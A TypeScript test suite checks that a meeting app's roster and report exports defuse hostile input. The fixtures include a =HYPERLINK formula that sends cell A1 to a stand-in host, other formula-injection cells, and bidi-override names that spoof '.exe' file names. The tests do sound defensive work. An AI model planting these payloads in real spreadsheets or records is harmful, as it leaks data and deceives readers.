import ExcelJS from 'exceljs';
import { strFromU8, unzipSync } from 'fflate';
import Papa from 'papaparse';
import { DataSource } from 'typeorm';
import type { Ack, AccountView, ApiError, Attendee, MeetingEndpoint, MeetingSyncResult, MeetingWriteResult, MinutesEntry, Page, ReportState, ReportStatusEvent } from '@app/contracts';
import { startTestApp, type TestApp } from '../support/app';
import { docxText, pdfText, squash } from '../support/documents';
import { orgByCode } from '../support/factories';
import { startWorker } from '../support/worker';
import { UserSession, type TestSocket } from '../support/session';
import { day } from '../support/time';

const BIDI = /[\u202A-\u202E\u2066-\u2069]/;
const FORMULA_START = /^[=+\-@\t\r]/;
const HYPERLINK = '=HYPERLINK("http://x.example/?"&A1,"Bấm vào đây")';

/**
 * Exports that cannot attack their reader: hostile cells in the roster CSV
 * (parsed with papaparse) and XLSX (read back with exceljs) come out as text,
 * bidi controls are gone from CSV, XLSX, DOCX (read by LibreOffice) and PDF
 * (read by pdftotext), and "Ðặng" pasted from Word is stored, found and sorted
 * as "Đặng".
 */
describe('exports that cannot attack their reader', () => {
  let t: TestApp;
  let worker: ReturnType<typeof startWorker> | undefined;
  let db: DataSource;
  let admin: UserSession;
  let organizer: UserSession;
  let chair: UserSession;
  let secretary: UserSession;
  let langson: UserSession;
  let follower: TestSocket;
  let meetingId: string;
  let langSon: MeetingEndpoint;
  const api = (path = '') => `/api/meetings/${meetingId}${path}`;
  const download = async (path: string) => {
    const res = await fetch(`${t.baseUrl}${api(path)}`, { headers: { authorization: `Bearer ${chair.token}` } });
    expect(res.status).toBe(200);
    const bytes = await res.arrayBuffer();
    return { headers: res.headers, bytes, body: Buffer.from(bytes) };
  };
  const person = async (fullName: string, more: Record<string, string> = {}) => {
    const res = await langson.post<Attendee>(api(`/endpoints/${langSon.id}/attendees`), { fullName, ...more });
    expect(res.status).toBe(201);
    return res.body;
  };

  beforeAll(async () => {
    t = await startTestApp();
    db = t.app.get(DataSource);
    worker = startWorker(t);
    admin = await UserSession.signIn(t.baseUrl, 'admin');
    organizer = await UserSession.signIn(t.baseUrl, 'organizer');
    chair = await UserSession.signIn(t.baseUrl, 'chair');
    secretary = await UserSession.signIn(t.baseUrl, 'secretary');
    langson = await UserSession.signIn(t.baseUrl, 'langson');
    const bng = await orgByCode(admin, 'BNG');
    const created = await organizer.post<MeetingWriteResult>('/api/meetings', {
      kind: 'working',
      title: 'Rà soát danh sách đại biểu\u202E',
      hostOrganizationId: bng.id,
      chairId: chair.account.id,
      secretaryIds: [secretary.account.id],
      scheduledStart: day(1, '08:00'),
      scheduledEnd: day(1, '10:00'),
    });
    expect(created.status).toBe(201);
    meetingId = created.body.meeting.id;
    expect(created.body.meeting.title).toBe('Rà soát danh sách đại biểu'); // normalized on the way in
    await organizer.post(api('/endpoints'), { organizationId: bng.id, isHost: true });
    langSon = (await organizer.post<MeetingEndpoint>(api('/endpoints'), { organizationId: (await orgByCode(admin, 'LANG_SON')).id, operatorIds: [langson.account.id] })).body;
    follower = await chair.socket();
    const sub = (await follower.emitWithAck('meeting:subscribe', { meetingId })) as Ack<MeetingSyncResult>;
    if (!sub.ok) throw new Error(JSON.stringify(sub.error));
  });
  afterAll(async () => {
    follower?.close();
    await worker?.stop();
    await t?.close();
  });

  let hostile: Attendee;
  let bidiName: Attendee;

  it('stores names normalized: Ð as Đ and no bidi controls; a name of only controls is a 400 that adds nobody', async () => {
    hostile = await person(HYPERLINK, { position: '+1', unit: '-2' });
    expect(hostile).toMatchObject({ fullName: HYPERLINK, position: '+1', unit: '-2' }); // stored as typed: the export neutralizes
    bidiName = await person('Hà Thị Lan\u202Egnp.exe', { position: 'Chuyên viên\u2066' });
    expect(bidiName).toMatchObject({ fullName: 'Hà Thị Langnp.exe', position: 'Chuyên viên' });
    for (const name of ['Phạm Văn Em', 'Nguyễn Văn \u00D0ức', 'Lê Văn Đông', 'Trần Văn Dũng']) await person(name, { note: '@SUM(A1:A9)' });

    const before = (await chair.get<Attendee[]>(api('/attendees'))).body;
    expect(before.map((a) => a.fullName)).toContain('Nguyễn Văn Đức');
    const bad = await langson.post<ApiError>(api(`/endpoints/${langSon.id}/attendees`), { fullName: '\u202E\u2066 \u2069' });
    expect(bad.status).toBe(400);
    expect(bad.body).toMatchObject({ code: 'validation_failed', fields: [expect.objectContaining({ field: 'fullName' })] });
    expect((await chair.get<Attendee[]>(api('/attendees'))).body).toEqual(before);

    // Values stored before the schemas normalized names, or that arrive some other way: the export is the last guard.
    await db.query(`UPDATE attendees SET full_name = $2, position = $3, note = $4 WHERE id = $1`, [bidiName.id, 'Hà Thị Lan\u202Egnp.exe', '\tx', '\rx']);
  });

  it('exports the roster as CSV whose hostile cells are text and whose names carry no bidi controls', async () => {
    const csv = await download('/attendance/export.csv');
    expect(csv.headers.get('content-disposition')).toMatch(/filename="danh-sach-dai-bieu-ra-soat-danh-sach-dai-bieu\.csv"/);
    const text = csv.body.toString('utf8');
    expect(text).not.toMatch(BIDI);
    const { data, errors } = Papa.parse<string[]>(text.replace(/^\uFEFF/, ''), { skipEmptyLines: true });
    expect(errors).toEqual([]);
    const [header, ...rows] = data;
    const col = (name: string) => header.indexOf(name);
    const row = (fullName: string) => rows.find((r) => r[col('Họ và tên')] === fullName)!;
    expect(row(`'${HYPERLINK}`).slice(col('Chức vụ'), col('Đơn vị') + 1)).toEqual(["'+1", "'-2"]);
    expect(row('Hà Thị Langnp.exe').slice(col('Chức vụ'))).toEqual(expect.arrayContaining(["'\tx", "'\rx"]));
    expect(row('Nguyễn Văn Đức')[col('Ghi chú')]).toBe("'@SUM(A1:A9)");
    for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
    // by given name, Đức with the Đ names: Dũng < Đông < Đức < Em
    const names = rows.map((r) => r[col('Họ và tên')]);
    expect(names.filter((n) => /Văn (Dũng|Đông|Đức|Em)$/.test(n))).toEqual(['Trần Văn Dũng', 'Lê Văn Đông', 'Nguyễn Văn Đức', 'Phạm Văn Em']);
  });

  it('exports the roster as XLSX with every hostile cell a text cell, no formula anywhere', async () => {
    const xlsx = await download('/attendance/export.xlsx');
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.load(xlsx.bytes);
    const cells: ExcelJS.Cell[] = [];
    wb.worksheets[0].eachRow((r) => r.eachCell((c) => cells.push(c)));
    expect(cells.filter((c) => c.type === ExcelJS.ValueType.Formula || c.type === ExcelJS.ValueType.Hyperlink)).toEqual([]);
    const values = cells.map((c) => c.value);
    // XML turns a carriage return into a line feed (XML 1.0 §2.11), so "\rx" reads back as "'\nx": still text
    for (const inert of [`'${HYPERLINK}`, "'+1", "'-2", "'@SUM(A1:A9)", "'\tx", "'\nx"]) {
      const cell = cells.find((c) => c.value === inert);
      expect(cell?.type).toBe(ExcelJS.ValueType.String);
    }
    expect(values.filter((v) => typeof v === 'string' && (FORMULA_START.test(v) || BIDI.test(v)))).toEqual([]);
    expect(values).toEqual(expect.arrayContaining(['Hà Thị Langnp.exe', 'Nguyễn Văn Đức']));
  });

  it('finds "Ðặng Văn A" pasted from Word by "Đặng" and by "dang", and sorts it with the Đ names', async () => {
    const orgId = (await orgByCode(admin, 'LANG_SON')).id;
    for (const [username, fullName] of [['xd.duong', 'Dương Văn A'], ['xd.dang', '\u00D0ặng Văn A'], ['xd.dinh', 'Đinh Văn A'], ['xd.em', 'Em Văn A']]) {
      const res = await admin.post<AccountView>('/api/accounts', { username, fullName, password: 'Mật khẩu thử nghiệm dài 2026', organizationId: orgId, roles: [] });
      expect(res.status).toBe(201);
    }
    const search = async (q: string) => (await admin.get<Page<AccountView>>(`/api/accounts?q=${encodeURIComponent(q)}&limit=100`)).body.items.filter((a) => a.username.startsWith('xd.')).map((a) => a.fullName);
    expect(await search('Đặng')).toEqual(['Đặng Văn A']);
    expect(await search('dang')).toEqual(['Đặng Văn A']);
    expect(await search('\u00D0ặng')).toEqual(['Đặng Văn A']);
    // all given name "A": then by the whole name, D < Đ < E, and Ðặng among the Đ
    expect(await search('van a')).toEqual(['Dương Văn A', 'Đặng Văn A', 'Đinh Văn A', 'Em Văn A']);
  });

  it('writes the report DOCX and PDF without bidi controls, hostile text shown as text', async () => {
    const done = new Promise<ReportState>((res) => follower.on('report:status', (e: ReportStatusEvent) => e.report.revision === 0 && e.report.status === 'done' && res(e.report)));
    // a conclusion and a task in free text (not a name, so not normalized), and a legacy meeting title
    expect((await organizer.post(api('/transitions'), { action: 'schedule' })).status).toBe(200);
    expect((await chair.post(api('/transitions'), { action: 'start' })).status).toBe(200);
    const entry = (body: object) => secretary.post<MinutesEntry>(api('/minutes/entries'), body);
    // short enough for one line: pdftotext reads a justified line stretched around a long token as two columns
    expect((await entry({ kind: 'conclusion', text: `${HYPERLINK} thử\u202E nghiệm` })).status).toBe(201);
    expect((await entry({ kind: 'task', text: '@SUM(A1:A9) rà soát\u2067 lại', leadOrganizationId: langSon.organizationId })).status).toBe(201);
    await db.query(`UPDATE meetings SET title = $2 WHERE id = $1`, [meetingId, 'Rà soát danh sách đại biểu\u202Excod.exe']);
    expect((await chair.post(api('/transitions'), { action: 'end' })).status).toBe(200);
    await done;

    const docx = await download('/summary.docx');
    expect(decodeURIComponent(docx.headers.get('content-disposition')!.split("UTF-8''")[1])).toBe('Báo cáo Rà soát danh sách đại biểuxcod.exe (lần 0).docx');
    const files = unzipSync(new Uint8Array(docx.body));
    for (const [name, bytes] of Object.entries(files)) if (name.endsWith('.xml')) expect(strFromU8(bytes)).not.toMatch(BIDI);
    const pdf = await download('/summary.pdf');
    for (const text of [squash(await docxText(docx.body)), squash(await pdfText(pdf.body))]) {
      expect(text).not.toMatch(BIDI);
      expect(text).toContain('Rà soát danh sách đại biểuxcod.exe');
      expect(text).toContain('1. =HYPERLINK("http://x.example/?"&A1,"Bấm vào đây") thử nghiệm');
      expect(text).toContain('@SUM(A1:A9) rà soát lại');
    }
  });
});
